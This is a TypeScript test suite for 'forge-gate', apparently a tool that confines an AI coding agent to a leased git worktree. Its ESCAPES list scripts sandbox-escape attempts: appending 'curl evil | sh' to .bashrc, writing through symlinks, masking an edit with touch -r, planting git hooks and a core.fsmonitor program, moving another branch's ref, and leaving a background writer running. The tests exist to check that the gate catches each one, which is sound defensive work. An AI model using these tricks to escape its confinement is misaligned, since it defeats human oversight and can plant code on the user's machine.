import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { type Fixture, gateRun, gateSteps, git, makeFixture, type RunReport } from "./fixture.js";

/**
 * The acceptance list: a real bash "agent" escapes its lease in one specific way; both `forge-gate run`
 * and `snapshot` + `collect` + `violations` must exit 1 and name the path.
 */
interface Escape {
  name: string;
  script: string;
  /** The path that must be named. */
  path: (f: Fixture) => string;
  setup?: (f: Fixture) => void;
  /** Checked after the gate ran (e.g. a planted program never ran). */
  after?: (f: Fixture) => void;
}

const ESCAPES: Escape[] = [
  {
    name: "a write into the main checkout beside the worktree",
    script: 'echo "pwned" > "$REPO/escape.txt"',
    path: (f) => join(f.repo, "escape.txt"),
  },
  {
    name: "an append to $HOME/.bashrc",
    script: 'echo "curl evil | sh" >> "$HOME/.bashrc"',
    path: (f) => join(f.home, ".bashrc"),
  },
  {
    name: "a write through a symlink inside the worktree that points outside",
    script: 'ln -s "$HOME" home-link\necho x > home-link/planted.txt',
    path: (f) => join(f.home, "planted.txt"),
  },
  {
    name: "a symlink inside the worktree pointing at an unwatched directory",
    setup: (f) => writeFileSync(join(f.T, "unwatched.txt"), "u\n"),
    script: 'ln -s "$T" out-link\necho x >> out-link/unwatched.txt',
    path: (f) => join(f.wt, "out-link"),
  },
  {
    name: "an edit outside whose mtime is restored with touch -r",
    script:
      'cp -p "$HOME/notes.txt" ref.txt\nprintf "bbbb\\n" > "$HOME/notes.txt"\ntouch -r ref.txt "$HOME/notes.txt"\nrm ref.txt',
    path: (f) => join(f.home, "notes.txt"),
  },
  {
    name: "a delete outside",
    script: 'rm "$HOME/old.txt"',
    path: (f) => join(f.home, "old.txt"),
  },
  {
    name: "a file moved from outside into the worktree",
    script: 'mv "$HOME/secret.txt" ./secret.txt',
    path: (f) => join(f.home, "secret.txt"),
  },
  {
    name: "a chmod outside",
    script: 'chmod 600 "$HOME/notes.txt"',
    path: (f) => join(f.home, "notes.txt"),
  },
  {
    name: "a new file in the shared .git/hooks written from the worktree",
    script:
      'hooks="$(git rev-parse --path-format=absolute --git-common-dir)/hooks"\nprintf "#!/bin/sh\\ntouch \\"$T/hook-ran\\"\\n" > "$hooks/pre-commit"\nchmod +x "$hooks/pre-commit"',
    path: (f) => join(f.repo, ".git", "hooks", "pre-commit"),
  },
  {
    name: "a planted core.fsmonitor (which must never run)",
    setup: (f) =>
      writeFileSync(join(f.T, "fsmonitor.sh"), `#!/bin/sh\ntouch "${f.T}/fsmonitor-ran"\necho`, {
        mode: 0o755,
      }),
    script: 'git config core.fsmonitor "$T/fsmonitor.sh"\necho change >> src/a.txt',
    path: (f) => join(f.repo, ".git", "config"),
    after: (f) => expect(existsSync(join(f.T, "fsmonitor-ran"))).toBe(false),
  },
  {
    name: "moving another branch's ref",
    script: 'echo more >> README.md\ngit commit -qam "agent work"\ngit update-ref refs/heads/main HEAD',
    path: (f) => join(f.repo, ".git", "refs", "heads", "main"),
  },
];

describe("forge-gate run catches every escape (exit 1, path named)", () => {
  for (const e of ESCAPES) {
    it(e.name, () => {
      const f = makeFixture();
      e.setup?.(f);
      const r = gateRun(f, e.script);
      expect(r.status, r.stderr).toBe(1);
      const report = JSON.parse(r.stdout) as RunReport;
      expect(report.verdict).toBe("refused");
      expect(report.command.exit_code).toBe(0);
      expect(report.violations.map((v) => v.path)).toContain(e.path(f));
      e.after?.(f);
    });
  }
});

describe("snapshot + collect + violations catch every escape (exit 1, path named)", () => {
  for (const e of ESCAPES) {
    it(e.name, () => {
      const f = makeFixture();
      e.setup?.(f);
      const { violations } = gateSteps(f, e.script);
      expect(violations.status, violations.stderr).toBe(1);
      const report = JSON.parse(violations.stdout) as { violations: { path: string }[] };
      expect(report.violations.map((v) => v.path)).toContain(e.path(f));
      e.after?.(f);
    });
  }
});

describe("an agent cannot move its write roots during the run", () => {
  it("a root that did not exist, created as a link to $HOME, does not cover $HOME", () => {
    const f = makeFixture({ writeRoots: '[".", "../scratch"]' });
    const r = gateRun(f, 'ln -s "$HOME" ../scratch\necho "curl evil | sh" >> "$HOME/.bashrc"');
    expect(r.status, r.stderr).toBe(1);
    const report = JSON.parse(r.stdout) as RunReport;
    expect(report.violations.map((v) => v.path)).toContain(join(f.home, ".bashrc"));
  });

  it("the same root created as a real directory is an ordinary grant", () => {
    const f = makeFixture({ writeRoots: '[".", "../scratch"]' });
    const r = gateRun(f, "mkdir ../scratch\necho ok > ../scratch/out.txt");
    expect(r.status, r.stderr).toBe(0);
  });
});

const GOOD_AGENT = [
  "echo edit >> README.md",
  "mkdir -p src/new && echo created > src/new/file.txt",
  "git rm -q src/gone.txt",
  "echo untracked > scratch.txt",
  "git add -A",
  'git commit -qm "agent work"',
  "echo more >> src/a.txt",
  "git commit -qam second",
  'echo "unstaged" >> README.md',
].join("\n");

describe("a run that stays inside its lease passes", () => {
  it("edits, creates, deletes and commits on its own branch: forge-gate run exits 0", () => {
    const f = makeFixture();
    const r = gateRun(f, GOOD_AGENT);
    expect(r.status, r.stdout + r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as RunReport;
    expect(report.verdict).toBe("pass");
    expect(report.violations).toEqual([]);
    const paths = report.changes.map((c) => c.path);
    // It really saw the work, from both scopes (so the pass is not blindness).
    expect(paths).toContain(join(f.wt, "src", "new", "file.txt"));
    expect(report.changes).toContainEqual({
      path: join(f.wt, "src", "gone.txt"),
      change: "deleted",
      source: "git",
    });
    expect(report.changes.some((c) => c.source === "snapshot" && c.path === join(f.wt, "README.md"))).toBe(
      true,
    );
    // The commits really moved the agent's branch and left main alone.
    expect(git(["rev-parse", "agent"], f.repo)).not.toBe(git(["rev-parse", "main"], f.repo));
  });

  it("the same run through snapshot + collect + violations exits 0", () => {
    const f = makeFixture();
    const { collect, violations } = gateSteps(f, GOOD_AGENT);
    expect(violations.status, violations.stdout + violations.stderr).toBe(0);
    const listed = collect.stdout.split("\0");
    expect(listed).toContain(join(f.wt, "src", "new", "file.txt"));
    expect(collect.stderr).toMatch(/git bookkeeping change\(s\) set aside/);
  });

  it("the main checkout as the leased worktree: committing on its branch passes, editing .git/config does not", () => {
    const f = makeFixture();
    writeFileSync(
      f.lease,
      `version: 1\nid: e2e-lease\nworktree: ${f.repo}\nwrite_roots: ["."]\nbase: main\n`,
    );
    const ok = gateRun(f, 'cd "$REPO"\necho x >> README.md\ngit commit -qam main-work');
    expect(ok.status, ok.stdout + ok.stderr).toBe(0);
    const bad = gateRun(f, 'cd "$REPO"\ngit config user.name Mallory');
    expect(bad.status).toBe(1);
    const report = JSON.parse(bad.stdout) as RunReport;
    expect(report.violations).toContainEqual(
      expect.objectContaining({ path: join(f.repo, ".git", "config"), reason: "protected" }),
    );
  });
});

describe("forge-gate run reports the command", () => {
  it("puts CMD's status in the report and returns it with --propagate-exit", () => {
    const f = makeFixture();
    const plain = gateRun(f, "echo inside > ok.txt\nexit 7");
    expect(plain.status).toBe(0);
    expect((JSON.parse(plain.stdout) as RunReport).command.exit_code).toBe(7);
    const propagated = gateRun(f, "exit 7", ["--propagate-exit"]);
    expect(propagated.status).toBe(7);
  });

  it("an escape wins over --propagate-exit", () => {
    const f = makeFixture();
    const r = gateRun(f, 'echo x > "$HOME/x"\nexit 0', ["--propagate-exit"]);
    expect(r.status).toBe(1);
  });

  it("kills what CMD left running in its group, so nothing writes after the sweep", () => {
    const f = makeFixture();
    const r = gateRun(f, `(sleep 1; echo late > "$HOME/late.txt") &\nexit 0`);
    expect(r.status, r.stderr).toBe(0);
    // Give a survivor time to write, then show it never did.
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1500);
    expect(existsSync(join(f.home, "late.txt"))).toBe(false);
  });

  it("passes stdio through and keeps the report on stdout parseable", () => {
    const f = makeFixture();
    const r = gateRun(f, "echo to-stderr >&2");
    expect(r.stderr).toContain("to-stderr");
    expect(() => JSON.parse(r.stdout)).not.toThrow();
  });

  it("text format names the escape and the watched roots", () => {
    const f = makeFixture();
    writeFileSync(join(f.T, "agent.sh"), 'echo x >> "$HOME/.bashrc"\n');
    const r = gateRun(f, 'echo x >> "$HOME/.bashrc"', ["--format", "text"]);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain(join(f.home, ".bashrc"));
    expect(r.stderr).toMatch(/forge-gate: refused: /);
    expect(r.stderr).toContain(`watched: `);
    expect(r.stderr).toContain("default root (temp) left out by --default-roots");
    expect(r.stderr).toMatch(/forge-gate: attribution: capture/);
    // Captured, never applied to the host, and kept where the report says.
    expect(readFileSync(join(f.home, ".bashrc"), "utf8")).toBe("# rc\n");
    const kept = /kept for review in (\S+)/.exec(r.stderr)?.[1];
    expect(kept, r.stderr).toBeDefined();
    const map = JSON.parse(readFileSync(join(kept!, "capture.json"), "utf8")) as {
      overlays: { upper: string; path: string }[];
    };
    const home = map.overlays.find((o) => o.path === f.home);
    expect(readFileSync(join(home!.upper, ".bashrc"), "utf8")).toBe("# rc\nx\n");
  });
});
